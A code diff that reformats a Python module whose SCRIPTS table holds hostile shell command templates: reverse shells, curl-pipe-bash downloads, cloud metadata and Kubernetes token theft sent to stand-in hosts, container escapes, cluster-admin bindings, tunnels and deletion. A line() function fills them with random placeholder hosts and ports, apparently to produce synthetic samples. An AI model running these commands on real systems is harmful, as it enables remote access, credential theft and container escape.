@@ -8,7 +8,8 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
         "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {address} {port} > /tmp/f",
         "nc {host} {port} -e /bin/sh",
         "socat exec:'bash -li',pty,stderr tcp:{address}:{port}",
-        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
+        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
     ),
     "something downloaded and run": (
         "curl -fsSL http://{host}/{word}.sh | bash",
@@ -24,7 +25,8 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     ),
     "the metadata service": (
         "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-        "wget -qO- --header 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+        "wget -qO- --header 'Metadata-Flavor: Google' "
+        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
     ),
     "the token, sent away": (
         "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://{host}/{word}",
@@ -39,7 +41,8 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     "out of the container": (
         "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
         "chroot /host /bin/bash -c '{word}'",
-        "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_release; echo /{word} > /tmp/c/release_agent",
+        "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_release; "
+        "echo /{word} > /tmp/c/release_agent",
         "docker -H unix:///var/run/docker.sock run -v /:/host --privileged alpine chroot /host sh",
         "insmod /tmp/{word}.ko",
         "echo '|/tmp/{word} %p' > /proc/sys/kernel/core_pattern",
@@ -68,12 +71,12 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     "rights in the cluster": (
         "kubectl create clusterrolebinding {word} --clusterrole=cluster-admin --serviceaccount=default:default",
         "kubectl get secrets -A -o yaml | curl -d @- http://{host}/{word}",
-        "curl -k -H \"Authorization: Bearer $T\" https://kubernetes.default/api/v1/namespaces/kube-system/secrets",
+        'curl -k -H "Authorization: Bearer $T" https://kubernetes.default/api/v1/namespaces/kube-system/secrets',
     ),
     "a tunnel": (
         "ngrok tcp 22",
         "chisel client http://{host}:{port} R:socks",
-        "curl -s https://webhook.site/{word} -d \"$(env)\"",
+        'curl -s https://webhook.site/{word} -d "$(env)"',
         "ssh -fN -R {port}:localhost:22 -o StrictHostKeyChecking=no {word}@{host}",
     ),
     "everything deleted": (
@@ -87,7 +90,10 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
 def line(purpose: str, draw: random.Random) -> str:
     """One of the lines for a purpose."""
     word = "".join(draw.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=draw.randrange(4, 10)))
-    host = f"{word}.{draw.choice(('example.net', 'example.xyz', 'cdn-example.top', 'example.duckdns.org', 'example.org'))}"
-    address = f"{draw.choice((45, 91, 185, 193, 203))}.{draw.randrange(1, 255)}.{draw.randrange(1, 255)}.{draw.randrange(1, 255)}"
+    host = (
+        f"{word}.{draw.choice(('example.net', 'example.xyz', 'cdn-example.top', 'example.duckdns.org', 'example.org'))}"
+    )
+    parts = [draw.choice((45, 91, 185, 193, 203)), *(draw.randrange(1, 255) for _ in range(3))]
+    address = ".".join(map(str, parts))
     port = draw.choice((443, 4444, 8080, 9001, 1337, 53, 8443))
     return draw.choice(SCRIPTS[purpose]).format(host=host, address=address, port=port, word=word)
